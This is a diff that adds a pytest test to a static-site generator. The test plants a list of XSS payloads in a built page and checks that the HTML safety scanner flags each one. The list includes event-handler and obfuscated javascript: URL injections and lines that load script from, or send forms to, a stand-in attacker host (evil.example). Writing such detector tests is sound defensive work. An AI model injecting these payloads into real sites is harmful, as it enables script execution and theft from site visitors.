@@ -524,6 +524,37 @@ def test_entity_decoded_heading_title_is_caught_by_the_html_check(tmp_path: Path
     assert "onerror" in found[0].message
 
 
+# Each leaves the page's theme scripts alone and adds one way to run script.
+INJECTIONS = [
+    "<img src=x onerror=alert(1)>", "<IMG SRC=x OnError = 'alert(1)'>", "<svg/onload=alert(1)>",
+    '<p title="x"onclick="alert(1)">', "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></script>",
+    '<a href="javascript:alert(1)">x</a>', '<a href=" JaVa\tScRiPt:alert(1)">x</a>',
+    '<a href="&#106;avascript:alert(1)">x</a>', '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>', '<iframe src="data:text/html,<b>">', '<object data="x.swf">',
+    '<embed src="x.swf">', '<base href="//evil.example/">', '<form action="//evil.example/">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "<style>*{}</style>",
+]
+
+
+def test_html_check_skips_only_pages_with_nothing_but_the_theme_scripts(
+        built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    import tide.site
+
+    parsed: list[bytes] = []
+    scan = tide.site._scan
+    monkeypatch.setattr(tide.site, "_scan", lambda data: parsed.append(data) or scan(data))
+    site = tmp_path / "site"
+    shutil.copytree(built, site)
+    page = site / "threat-vectors" / SEED_SLUG / "index.html"
+    rel = {f"threat-vectors/{SEED_SLUG}.md": ""}
+    assert check_site_safety(site, rel) == [] and len(parsed) == 1  # the 404 page only
+    clean = page.read_text(encoding="utf-8")
+    for injection in INJECTIONS:
+        page.write_text(clean.replace("</article>", f"{injection}</article>"), encoding="utf-8")
+        found = check_site_safety(site, rel)
+        assert found and {d.code for d in found} == {"site-unsafe-html"}, injection
+
+
 def test_user_settings_that_tide_fills_in_are_replaced_not_repeated(tmp_path: Path) -> None:
     project = tmp_path / "proj"
     shutil.copytree(SITE, project)
